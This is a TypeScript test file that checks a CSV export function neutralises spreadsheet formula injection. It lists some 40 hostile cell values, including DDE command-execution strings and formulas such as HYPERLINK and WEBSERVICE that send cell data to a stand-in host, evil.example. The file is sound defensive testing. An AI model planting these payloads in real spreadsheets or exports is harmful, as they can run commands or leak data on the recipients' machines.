import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import type { Dialect } from '../../src/csv/dialect.ts'
import { inertCell } from '../../src/reports/inert-cell.ts'
import { writeRowFiles } from '../../src/reports/row-files.ts'

/** What an attacker types into a name, a comment or a code. Every one must end as text in a spreadsheet. */
const PAYLOADS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  "-cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '=WEBSERVICE("http://evil.example")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '=IMAGE("http://evil.example/x.png")',
  '+1+1',
  '-1+1',
  '-2+3+cmd|x!A0',
  '@A1',
  '=A1',
  ' =1+1',
  '   +1+2',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u3000=1+1',
  '\u0001=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  ' ＝1+1',
  '"=1+1',
  "'=1+1",
  '="0123"',
  '=-1',
  '--1',
  '+-1',
  '-A1',
  '\tplain',
  '\rplain',
  '=\n1',
  '-',
]

/** The same behind another list separator, or at the start of a line within the cell. */
const IN_MIDDLE: [cell: string, inert: string][] = [
  ['x,=1+1', "x,'=1+1"],
  ['x;=1+1', "x;'=1+1"],
  ['x\t@SUM(A1)', "x\t'@SUM(A1)"],
  ['x\n=1+1', "x\n'=1+1"],
  ['x",+cmd|a!A0', `x",'+cmd|a!A0`],
  ['x,"=1+1', `x,"'=1+1`],
]

const UNCHANGED = [
  '',
  'T-shirt',
  '4',
  '-2',
  '+4',
  '12-',
  '-1.204,50',
  "-1'204.50",
  '-,5',
  ' -3 ',
  '100,-',
  'a=b',
  'x@example.com',
  '3+4',
  'A-B',
  '+45 12 34 56 78',
  '0012',
  'Blue, +strap',
]

test('there are 40 payloads', () => expect(PAYLOADS.length).toBe(40))

test.each(PAYLOADS)('%j is text', (payload) => {
  expect(inertCell(payload).startsWith("'")).toBe(true)
  expect(inertCell(payload).endsWith(payload.at(-1)!)).toBe(true)
})

test.each(IN_MIDDLE)('%j is %j', (cell, inert) => expect(inertCell(cell)).toBe(inert))

test.each(UNCHANGED)('%j is left alone', (cell) => expect(inertCell(cell)).toBe(cell))

test.each(PAYLOADS)('%j is inert in result.csv and untouched in rejected.csv', async (payload) => {
  const dir = await mkdtemp(join(tmpdir(), 'inert-'))
  const row = `"${payload.replaceAll('"', '""')}";4`
  const source = join(dir, 'source.csv')
  await writeFile(source, `Tekst;Antal\r\n${row}\r\n`)
  const dialect: Dialect = {
    encoding: 'utf-8',
    delimiter: ';',
    quoting: 'minimal',
    quote: '"',
    newline: 'crlf',
    bom: false,
    unencodable: 'hold',
  }
  const rowResult = async () => [{ result: 'rejected' as const, code: 'TB2101', message: payload }]
  await writeRowFiles({ source, dialect, headerLine: 1, outDir: dir, rowResult })
  const result = await readFile(join(dir, 'result.csv'), 'utf8')
  const rejected = await readFile(join(dir, 'rejected.csv'))
  await rm(dir, { recursive: true })
  expect(result.split('\r\n"')[1]!.startsWith("'")).toBe(true)
  expect(rejected.subarray(0, rejected.lastIndexOf(Buffer.from(';2;TB2101;'))).toString()).toBe(
    `Tekst;Antal;tb_row;tb_code;tb_message\r\n${row}`,
  )
})
